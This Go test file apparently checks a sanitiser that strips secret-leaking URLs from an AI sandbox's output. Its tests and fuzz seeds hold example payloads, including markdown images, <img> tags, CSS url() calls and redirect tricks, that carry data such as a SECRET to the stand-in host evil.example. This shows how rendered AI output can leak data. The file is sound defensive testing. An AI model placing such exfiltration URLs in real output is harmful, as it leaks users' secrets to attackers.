package sanitize

import (
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock"
)

func TestResult(t *testing.T) {
	s, err := New("docs.example.com")
	if err != nil {
		t.Fatal(err)
	}
	r := airlock.Result{
		Stdout: "see ![x](https://evil.example/?q=SECRET)\n",
		Stderr: "fine [d](https://docs.example.com/)\n",
		Value:  "<img src=https://evil.example/SECRET>",
	}
	f := s.Result(&r)
	if len(f) != 2 || strings.Contains(r.Stdout+r.Value.(string), "SECRET") {
		t.Errorf("findings %+v, result %+v", f, r)
	}
	if r.Stderr != "fine [d](https://docs.example.com/)\n" {
		t.Errorf("benign stderr changed: %q", r.Stderr)
	}
}

func TestNewRefusesBadHosts(t *testing.T) {
	for _, h := range []string{"127.0.0.1", "https://x.example", "", "*.com"} {
		if _, err := New(h); err == nil {
			t.Errorf("New(%q) succeeded", h)
		}
	}
}

// FuzzMarkdown checks, for any input, that the sanitiser neither panics
// nor leaves an offending URL that a second pass would still find, and
// that its output is a fixed point.
func FuzzMarkdown(f *testing.F) {
	for _, seed := range []string{
		"![x](https://evil.example/?q=1)", "[a][b]\n\n[b]: //evil.example", "<img src=https://evil.example>",
		"> <img\n> src=https://evil.example>", "<style>a{background:url(https://evil.example)}</style>",
		"https://evil.example/x and www.evil.example", "| a |\n|---|\n| ![x](https://evil.example) |",
		"![x](https://docs.example.com/r?to=https%3A%2F%2Fevil.example&host=evil.example#/a?next=//evil.example)",
	} {
		f.Add(seed)
	}
	s, err := New("docs.example.com")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out, _ := s.Markdown([]byte(in))
		_, again, lost := s.scan(out)
		if len(again) > 0 || len(lost) > 0 {
			t.Fatalf("offending URL survived: %q -> %q (%+v %+v)", in, out, again, lost)
		}
		if out2, _ := s.Markdown(out); string(out2) != string(out) {
			t.Fatalf("not a fixed point: %q -> %q -> %q", in, out, out2)
		}
	})
}
